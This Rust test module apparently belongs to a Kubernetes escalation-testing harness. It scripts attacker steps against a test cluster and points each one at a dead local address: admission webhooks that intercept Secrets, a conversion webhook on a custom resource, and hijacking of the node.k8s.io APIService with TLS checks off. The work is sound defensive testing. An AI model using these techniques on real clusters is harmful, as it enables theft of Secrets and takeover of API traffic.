//! What the attacker does about what the API server asks others: webhooks, conversions, APIServices. No server of his
//! answers, so that the step is seen by the API server's failure to reach it.

use bailiwick_testkit::servers::Reply;
use serde_json::{Value, json};

use crate::acts::{APIS, Act, CORE, DRY, is};
use crate::stage::{Stage, eventually};

/// The edges whose steps are taken.
pub(crate) const ACTS: &[(&str, Act)] = &[
    ("api-service", api_service),
    ("conversion-webhook", conversion),
    ("mutating-webhook", |stage| {
        webhook(stage, "mutatingwebhookconfigurations")
    }),
    ("validating-webhook", |stage| {
        webhook(stage, "validatingwebhookconfigurations")
    }),
];

/// Nobody listens there.
const NOWHERE: &str = "https://127.0.0.1:1/";

/// Whether what the administrator does fails because the server of the attacker does not answer.
pub(crate) fn fails_there(reply: &Reply) -> bool {
    reply.status >= 400 && reply.body.contains("127.0.0.1:1")
}

/// Asked about Secrets with a label. Nothing is left to defaults, which what comes from elsewhere does not get.
pub(crate) fn webhook_of_secrets() -> Value {
    let rule = json!({
        "apiGroups": [""],
        "apiVersions": ["v1"],
        "operations": ["CREATE"],
        "resources": ["secrets"],
        "scope": "*",
    });
    json!({
        "name": "eve.shop.example",
        "sideEffects": "None",
        "admissionReviewVersions": ["v1"],
        "clientConfig": {"url": NOWHERE},
        "failurePolicy": "Fail",
        "matchPolicy": "Equivalent",
        "namespaceSelector": {},
        "objectSelector": {"matchLabels": {"seen": "by-eve"}},
        "timeoutSeconds": 5,
        "rules": [rule],
    })
}

/// A Secret of somebody else is sent to the attacker before it is stored.
fn webhook(stage: &Stage, resource: &str) -> bool {
    let configuration = json!({
        "metadata": {"name": "eve"},
        "webhooks": [webhook_of_secrets()],
    });
    let path = format!("{APIS}/admissionregistration.k8s.io/v1/{resource}");
    if !matches!(stage.post(&path, &configuration).status, 201 | 409) {
        return false;
    }
    let admin = stage.cluster.admin();
    let secret = json!({"metadata": {"name": "seen", "labels": {"seen": "by-eve"}}});
    let secrets = format!("{CORE}/shop/secrets?{DRY}");
    let is_sent = eventually(|| fails_there(&admin.post(&secrets, &secret).unwrap()));
    let removed = admin.request("DELETE", &format!("{path}/eve"), &[], None);
    is_sent && is(200, &removed.unwrap())
}

/// All objects that are stored are sent to the attacker as soon as somebody asks for any: the API server reads them in the
/// version that he has added.
fn conversion(stage: &Stage) -> bool {
    let admin = stage.cluster.admin();
    let path =
        format!("{APIS}/apiextensions.k8s.io/v1/customresourcedefinitions/widgets.shop.example");
    let widget = json!({
        "apiVersion": "shop.example/v1",
        "kind": "Widget",
        "metadata": {"name": "own"},
    });
    let widgets = |version: &str| format!("{APIS}/shop.example/{version}/namespaces/shop/widgets");
    assert!(eventually(|| matches!(
        admin.post(&widgets("v1"), &widget).unwrap().status,
        201 | 409
    )));
    let version = |name: &str, stored: bool| {
        json!({
            "name": name,
            "served": true,
            "storage": stored,
            "schema": {"openAPIV3Schema": {"type": "object", "x-kubernetes-preserve-unknown-fields": true}},
        })
    };
    let changed = json!({"spec": {
        "versions": [version("v1", true), version("v2", false)],
        "conversion": {
            "strategy": "Webhook",
            "webhook": {"conversionReviewVersions": ["v1"], "clientConfig": {"url": NOWHERE}},
        },
    }});
    is(200, &stage.patch(&path, &changed))
        && eventually(|| fails_there(&admin.get(&widgets("v2")).unwrap()))
}

/// A group that the API server serves itself is served by the attacker, and stays so.
fn api_service(stage: &Stage) -> bool {
    let admin = stage.cluster.admin();
    let path = format!("{APIS}/apiregistration.k8s.io/v1/apiservices/v1.node.k8s.io");
    let change = |service: Value, insecure: Value| json!({"spec": {"service": service, "insecureSkipTLSVerify": insecure}});
    let own = change(
        json!({"namespace": "shop", "name": "eve", "port": 443}),
        json!(true),
    );
    if !is(200, &stage.patch(&path, &own)) {
        return false;
    }
    let status = || {
        admin
            .get(&format!("{APIS}/node.k8s.io/v1/runtimeclasses"))
            .unwrap()
            .status
    };
    let is_gone = eventually(|| status() == 503);
    let back = change(Value::Null, Value::Null).to_string();
    let headers = [("content-type", "application/merge-patch+json")];
    let mended = admin.request("PATCH", &path, &headers, Some(&back));
    is_gone && is(200, &mended.unwrap()) && eventually(|| status() == 200)
}
